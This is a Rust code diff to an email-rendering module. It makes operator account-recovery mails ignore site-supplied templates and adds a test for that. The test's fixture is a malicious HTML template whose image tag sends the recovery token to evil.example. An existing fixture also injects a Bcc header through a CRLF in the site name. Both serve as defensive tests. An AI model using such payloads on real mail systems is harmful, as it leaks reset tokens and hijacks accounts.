@@ -18,7 +18,7 @@ pub(crate) fn render(
     setting: &MailSetting,
 ) -> Result<stoa_outbound::Mail> {
     let known = words::language(language);
-    let own = setting.words(language, message.kind());
+    let own = setting.words(language, message.kind()).filter(|_| !message.is_ours_alone());
     let ours = message.words(known);
     let fill = |template: &str| fill(template, |name| message.value(name, to, context));
     let pick = |own: Option<&str>, ours: &'static str| fill(own.unwrap_or(ours));
@@ -83,13 +83,14 @@ fn fill<'v>(template: &str, value: impl Fn(&str) -> Option<Cow<'v, str>>) -> Str
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::mail::message::name_of;
+    use crate::mail::{Override, message::name_of};
 
     fn context() -> MailContext {
         MailContext {
             site_name: "Atlas & <b>Co</b>\r\nBcc: eve@example.org".to_owned(),
             recover_url: "https://www.example.org/account/recover?a=1&b=\"2\"".to_owned(),
             sign_in_url: "https://www.example.org/account/sign-in".to_owned(),
+            owner_url: "https://www.example.org/account/owner".to_owned(),
         }
     }
 
@@ -135,6 +136,20 @@ mod tests {
             );
         }
         assert_eq!(name_of("J.R.R. Müller: Dr."), "J. R. R. Müller: Dr.");
+    }
+
+    /// A picture in a site's own words would tell the site the link.
+    #[test]
+    fn recovery_of_operators_is_in_our_words_alone() {
+        let own = Override { html: Some("<img src=\"https://evil.example/?{link}\">".into()), ..Override::default() };
+        let kinds = ["operator_recovery", "operator_password_changed"].map(|it| (it.to_owned(), own.clone()));
+        let templates = [("en".to_owned(), kinds.into_iter().collect())].into_iter().collect();
+        let setting = MailSetting { language: None, templates };
+        let message = Message::OperatorRecovery { link: "https://x/?token=o1.x".into() };
+        let mail = render(&message, "o@example.org", "en", &context(), &setting).unwrap();
+        assert!(!mail.html.contains("evil.example") && mail.links == ["https://x/?token=o1.x"], "{mail:?}");
+        let text = serde_json::to_string(&setting).unwrap();
+        assert_eq!(MailSetting::parse(&text).unwrap_err().violations().len(), 2);
     }
 
     #[test]
